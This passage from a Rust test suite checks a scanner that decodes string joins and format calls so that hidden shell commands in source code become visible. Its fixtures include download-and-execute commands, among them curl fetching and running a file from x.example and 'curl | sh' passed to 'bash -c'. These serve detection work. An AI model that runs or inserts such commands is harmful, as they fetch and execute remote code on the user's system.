        assert_eq!(joined_lists("x = [`a`, `${b}`, `c`].join('')\n"), None);
        // `os.path.join(` is not a bare Ruby join.
        assert_eq!(joined_lists("p = os.path.join('a', 'b', 'c')\n"), None);
    }

    #[test]
    fn formats_are_filled_with_their_arguments() {
        let rs = "let fetch = format!(\n    \"{} -fsSL {} -o {} && chmod +x {} && {}\",\n    \"curl\",\n    \"https://x.example/shim\",\n    shim.display(),\n    shim.display(),\n    shim.display()\n);\n";
        assert_eq!(
            joined_lists(rs).map(|j| j.text).as_deref(),
            Some(
                "let fetch = curl -fsSL https://x.example/shim -o $ARG1 && chmod +x $ARG1 && $ARG1 ;\n\n\n\n\n\n\n);\n"
            )
        );
        let py = "cmd = '{0} {1} | {2}'.format('curl', url, 'sh')\nrun = \"%s -c %s\" % (\"bash\", cmd)\n";
        assert_eq!(
            joined_lists(py).map(|j| j.text).as_deref(),
            Some("cmd = curl $ARG1 | sh\nrun = bash -c $ARG1\n")
        );
        let go = "u := fmt.Sprintf(\"%s://%s/%s\", \"https\", host, \"i.sh\")\n";
        assert_eq!(
            joined_lists(go).map(|j| j.text).as_deref(),
            Some("u := fmt. https://$ARG1/i.sh\n")
        );
        // No placeholder, a missing argument, an f-string: not a format.
        assert_eq!(joined_lists("x = format!(\"plain\", a)\n"), None);
        assert_eq!(joined_lists("x = '{} {}'.format(a)\n"), None);
        assert_eq!(joined_lists("x = f'{a}'.format(b)\n"), None);
        assert_eq!(joined_lists("x = 10 % (a + b)\n"), None);
    }

    #[test]
    fn attempts_share_a_budget() {
        // Each attempt reads up to its own bound; together they stop at
        // MAX_BYTES_READ (seconds on a few MB of openings otherwise).
        let hostile = format!(
            "x = ''.join(p)\n{}{}{}",
            "'{}' % (".repeat(100_000),
            "'{}'.format(".repeat(100_000),
            "format!(\"{}\",".repeat(100_000)
        );
        let budget = Budget::new(0);
        let found = Format::all(hostile.as_bytes(), &budget).count();
        assert_eq!(found, 0);
        // Spent: the attempts read up to the bound, and no further.
        assert!(budget.0.get() < MAX_JOINED_BYTES);
    }

    #[test]
    fn lists_are_bounded() {
        let many = (0..=MAX_PIECES)
            .map(|_| "'a'")
            .collect::<Vec<_>>()
            .join(",");
        assert_eq!(joined_lists(&format!("x = ''.join([{many}])\n")), None);
        let big = format!(
            "x = ''.join(['{}', 'b', 'c'])\n",
            "a".repeat(MAX_JOINED_BYTES)
        );
        assert_eq!(joined_lists(&big), None);
        let wide = format!(
            "x = ''.join(['a',{}'b', 'c'])\n",
            " ".repeat(MAX_BLANKS + 1)
        );
        assert_eq!(joined_lists(&wide), None);
        let lists = (0..MAX_LISTS + 4)
            .map(|i| format!("p{i} = ['a', 'b', 'c']"))
            .collect::<Vec<_>>()
            .join("\n");
        let out = joined_lists(&format!("{lists}\nx = ''.join(p0)\n"));
        // Every list is read joined; the first few are decoded.
        assert_eq!(
            out.as_ref()
                .map(|j| j.text.lines().filter(|l| l.ends_with(" = abc")).count()),
            Some(MAX_LISTS + 4)
        );
        assert_eq!(out.map(|j| j.readings.len()), Some(MAX_LISTS + 4));
        // Many openings, each of a list that fails late: still linear.
        let hostile = "['a', ".repeat(200_000);
        assert_eq!(joined_lists(&format!("{hostile}\n''.join(x)\n")), None);
    }
}
